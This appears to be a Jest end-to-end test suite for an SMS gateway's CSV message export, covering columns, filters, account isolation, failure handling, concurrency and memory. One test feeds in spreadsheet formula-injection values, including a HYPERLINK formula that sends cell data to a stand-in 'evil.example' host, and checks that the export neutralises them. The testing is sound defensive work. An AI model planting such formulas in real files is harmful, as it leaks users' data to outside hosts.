import { get } from 'node:http';
import { connect } from 'node:net';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { Types } from 'mongoose';
import { MessageListRepository } from '../../src/messages/lists/message-list.repository';
import type { TestClient } from '../support/client';
import { readCsv } from '../support/csv';
import { download, type Download } from '../support/download';
import { eventually } from '../support/eventually';
import { TestService } from '../support/service';

const COLUMNS =
  'id,direction,status,recipient,sender,contactNumber,message,createdAt,requestedAt,dispatchedAt,sentAt,deliveredAt,' +
  'failedAt,receivedAt,deviceId,simId,poolId,smsBatchId,segments,encoding,errorCode,errorMessage';

/** More than the service reads at a time. */
const MANY = Array.from({ length: 350 }, (_, index) => `+49151${String(10_000_000 + index)}`);

const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Hi")';

const codeOf = ({ text }: Download) => (JSON.parse(text) as { code: string }).code;

describe('GET gateway/messages/export', () => {
  let service: TestService;
  let client: TestClient;
  let device: string;

  beforeAll(async () => {
    service = await TestService.start({ environment: { APP_ROLES: 'api' } });
  });
  beforeEach(async () => {
    client = await service.newAccount();
    device = await client.newDevice();
  });
  afterEach(() => jest.restoreAllMocks());
  afterAll(() => service.stop());

  const pathOf = (query: string) => `/api/v1/gateway/messages/export${query}`;
  const headersOf = ({ apiKey }: TestClient) => ({ 'x-api-key': apiKey });
  const exported = (query = '', by = client) => download(`${service.url}${pathOf(query)}`, headersOf(by));
  const rowsOf = async (query = '', by = client) => readCsv((await exported(query, by)).text);
  const receive = (sender: string, message: string) =>
    client.post(`/gateway/devices/${device}/receive-sms`, { sender, message }).expect(200);

  /** Replaces the reads after the first page. */
  function afterFirstPage(read: () => Promise<never[]>): void {
    const repository = service.get(MessageListRepository);
    const list = repository.list.bind(repository);
    jest
      .spyOn(repository, 'list')
      .mockImplementation((account, filter, place, count) =>
        'after' in place.start ? read() : list(account, filter, place, count),
      );
  }

  it('writes a file with a row for each message, newest first', async () => {
    const batch = await client.send(['+4915112345678'], { message: 'Größe: 5, "XL"\nBis dann' });
    const [sent] = (await client.batch(device, batch)).messages;
    const sentAt = service.clock.now().toISOString();
    await client.report(device, sent?._id ?? '', 'SENT', { sentAtInMillis: Date.parse(sentAt) }).expect(200);
    await receive('Bank', 'Ihre TAN: 123456 😀');
    const answer = await exported();
    expect(answer).toMatchObject({ status: 200, isComplete: true });
    expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8');
    const day = service.clock.now().toISOString().slice(0, 10);
    expect(answer.headers['content-disposition']).toBe(`attachment; filename="messages-${day}.csv"`);
    expect(answer.headers['cache-control']).toBe('no-store');
    expect(answer.text.split('\r\n', 1)).toEqual([`\ufeff${COLUMNS}`]);
    const listed = (await client.get('/gateway/messages')).body as { data: Record<string, unknown>[] };
    const rows = readCsv(answer.text);
    expect(rows.map(({ id }) => id)).toEqual(listed.data.map(({ _id }) => _id));
    expect(rows).toMatchObject([
      {
        direction: 'received',
        status: 'received',
        sender: 'Bank',
        recipient: '',
        message: 'Ihre TAN: 123456 😀',
        segments: '1',
        encoding: 'UCS-2',
        smsBatchId: '',
      },
      {
        direction: 'sent',
        status: 'sent',
        recipient: '+4915112345678',
        contactNumber: '+4915112345678',
        message: 'Größe: 5, "XL"\nBis dann',
        sentAt,
        deviceId: device,
        smsBatchId: batch,
        segments: '1',
        encoding: 'GSM-7',
      },
    ]);
  });

  it('writes only the names of the columns without messages', async () => {
    expect(await exported()).toMatchObject({ text: `\ufeff${COLUMNS}\r\n`, isComplete: true });
  });

  it('makes no cell a formula, and keeps the + of numbers', async () => {
    await receive('+4915112345678', FORMULA);
    await receive('=1+1', '\t=1+1');
    await receive('@SUM(A1)', "'-2+3");
    const batch = await client.send(['+4915112345678'], { message: '+49 is Germany' });
    const [sent] = (await client.batch(device, batch)).messages;
    await client.report(device, sent?._id ?? '', 'FAILED', {
      errorCode: '-1+cmd',
      errorMessage: '@evil',
      failedAtInMillis: service.clock.now().getTime(),
    });
    const rows = await rowsOf('?order=asc');
    expect(rows.map(({ sender, message }) => [sender, message])).toEqual([
      ['+4915112345678', `'${FORMULA}`],
      ["'=1+1", "'\t=1+1"],
      ["'@SUM(A1)", "''-2+3"],
      ['', "'+49 is Germany"],
    ]);
    expect(rows[3]).toMatchObject({
      recipient: '+4915112345678',
      errorCode: "'-1+cmd",
      errorMessage: "'@evil",
    });
    const cells = rows.flatMap((row) => Object.values(row));
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^\+\d+$/.test(cell))).toEqual([]);
  });

  it('selects what the list selects, any number of messages', async () => {
    const other = await client.newDevice();
    const many = await client.send(MANY, { deviceId: device });
    await client.send(['+447700900123'], { deviceId: other, message: 'A needle' });
    await receive('+447700900123', 'Hay');
    service.clock.advance(5_000); // Ascending lists end a few seconds ago.
    const idsOf = async (query: string) => (await rowsOf(query)).map(({ id }) => id);
    for (const query of [
      `deviceIds=${other}`,
      'direction=received',
      'status=pending&direction=sent&recipient=%2B447700900123',
      'sender=%2B447700900123',
      'search=needle',
      'from=2000-01-01&to=2001-01-01',
      'order=asc&search=151100000',
    ]) {
      const { data } = (await client.get(`/gateway/messages?limit=100&${query}`)).body as {
        data: { _id: string }[];
      };
      expect([query, await idsOf(`?${query}`)]).toEqual([query, data.map(({ _id }) => _id)]);
    }
    const recipients = (await rowsOf(`?smsBatchId=${many}&order=asc`)).map(({ recipient }) => recipient);
    expect(recipients).toEqual(MANY);
    expect(new Set(await idsOf(''))).toHaveProperty('size', 352);
  });

  it('belongs to one account', async () => {
    const stranger = await service.newAccount();
    const batch = await client.send(['+4915112345678']);
    expect(await rowsOf('', stranger)).toEqual([]);
    const attempts = {
      [`?deviceIds=${device}`]: [404, 'DEVICE_NOT_FOUND'],
      [`?smsBatchId=${batch}`]: [404, 'BATCH_NOT_FOUND'],
      '?from=yesterday': [400, 'VALIDATION_FAILED'],
      '?order=up': [400, 'VALIDATION_FAILED'],
    };
    for (const [query, expected] of Object.entries(attempts)) {
      const answer = await exported(query, stranger);
      expect([query, answer.status, codeOf(answer)]).toEqual([query, ...expected]);
      expect(answer.headers).not.toHaveProperty('content-disposition');
    }
    const person = await service.signIn(client);
    const phoneKey = (await person.post('/auth/api-keys', { kind: 'phone' })).body as { data: string };
    for (const apiKey of ['wrong', phoneKey.data]) {
      const answer = await download(`${service.url}${pathOf('')}`, { 'x-api-key': apiKey });
      expect([answer.status, codeOf(answer)]).toEqual([401, 'AUTH_INVALID']);
    }
  });

  it('breaks the connection when it fails midway', async () => {
    await client.send(MANY);
    afterFirstPage(() => Promise.reject(new Error('the database is gone')));
    expect((await exported()).isComplete).toBe(false);
  });

  it('resets the connection of a client that speaks HTTP/1.0, for which a closed one is complete', async () => {
    await client.send(MANY);
    afterFirstPage(() => Promise.reject(new Error('the database is gone')));
    const { hostname, port } = new URL(service.url);
    const code = await new Promise<string | undefined>((resolve) => {
      const socket = connect(Number(port), hostname);
      socket.once('error', (failure: NodeJS.ErrnoException) => {
        resolve(failure.code);
      });
      socket.once('end', () => {
        resolve('a complete response');
      });
      socket.resume();
      socket.write(`GET ${pathOf('')} HTTP/1.0\r\nx-api-key: ${client.apiKey}\r\n\r\n`);
    });
    expect(code).toBe('ECONNRESET');
  });

  it('ends when its key is revoked', async () => {
    await client.send(MANY);
    const repository = service.get(MessageListRepository);
    const list = repository.list.bind(repository);
    jest.spyOn(repository, 'list').mockImplementation(async (...args) => {
      const page = await list(...args);
      await service
        .collection('apikeys')
        .updateMany({ user: client.user }, { $set: { revokedAt: new Date() } });
      return page;
    });
    expect((await exported()).isComplete).toBe(false);
  });

  it('is limited to two at a time, and waits for its client', async () => {
    await client.send(['+4915112345678']);
    const repository = service.get(MessageListRepository);
    const [message] = await repository.list(
      { user: client.user } as never,
      {},
      { start: { page: 1 }, order: 'desc', pageSize: 1 },
      1,
    );
    if (!message) throw new Error('There is no message');
    let pages = 0;
    const list = jest.spyOn(repository, 'list').mockImplementation((_, __, ___, count) => {
      pages += 1;
      return Promise.resolve(Array.from({ length: count }, () => Object.assign({}, message)));
    });
    const calls = [1, 2].map(() => get(`${service.url}${pathOf('')}`, { headers: headersOf(client) }));
    const answers = await Promise.all(
      calls.map((call) => new Promise((resolve) => call.once('response', resolve))),
    );
    expect(answers).toHaveLength(2);
    const refused = await exported();
    expect([refused.status, codeOf(refused)]).toEqual([429, 'CONCURRENCY_LIMITED']);
    expect(refused.text).toContain('MAX_EXPORTS_PER_ACCOUNT');
    // The list never ends, but nobody reads it: the reads stop once the buffers of the connections are full.
    let [seen, since] = [-1, 0];
    await eventually(
      () => {
        if (pages !== seen) [seen, since] = [pages, performance.now()];
        return performance.now() - since;
      },
      (unchangedMs) => unchangedMs > 1_000,
    );
    const other = await service.newAccount();
    list.mockRestore();
    expect((await exported('', other)).status).toBe(200);
    for (const call of calls) call.destroy();
    await eventually(
      async () => (await exported()).status,
      (status) => status === 200,
    );
  });

  it('needs the memory of a page for 100,000 messages', async () => {
    const batch = await client.send(['+4915112345678']);
    const [sample] = await service
      .collection('messages')
      .find({ smsBatch: new Types.ObjectId(batch) })
      .toArray();
    const start = service.clock.now().getTime();
    for (let made = 1; made < 100_000; made += 5_000) {
      const documents = Array.from({ length: Math.min(5_000, 100_000 - made) }, (_, index) => ({
        ...sample,
        _id: new Types.ObjectId(),
        createdAt: new Date(start - made - index),
        message: `Message ${made + index} ${'with a text of some length '.repeat(5)}`,
      }));
      await service.collection('messages').insertMany(documents, { ordered: false });
    }
    setFlagsFromString('--expose-gc');
    const collectGarbage = runInNewContext('gc') as () => void;
    const usedMegabytes = () => {
      collectGarbage();
      return process.memoryUsage().heapUsed / 1_000_000;
    };
    let [lines, bytes, largest] = [0, 0, 0];
    const before = usedMegabytes();
    await new Promise<void>((resolve, reject) => {
      get(`${service.url}${pathOf('')}`, { headers: headersOf(client) }, (answer) => {
        answer.on('data', (chunk: Buffer) => {
          const next = lines + chunk.toString('latin1').split('\r\n').length - 1;
          if (Math.floor(next / 10_000) > Math.floor(lines / 10_000))
            largest = Math.max(largest, usedMegabytes());
          lines = next;
          bytes += chunk.length;
        });
        answer.once('error', reject).once('end', resolve);
      }).once('error', reject);
    });
    expect(lines).toBe(100_001);
    expect(bytes).toBeGreaterThan(25_000_000);
    expect(largest - before).toBeLessThan(15);
  });
});
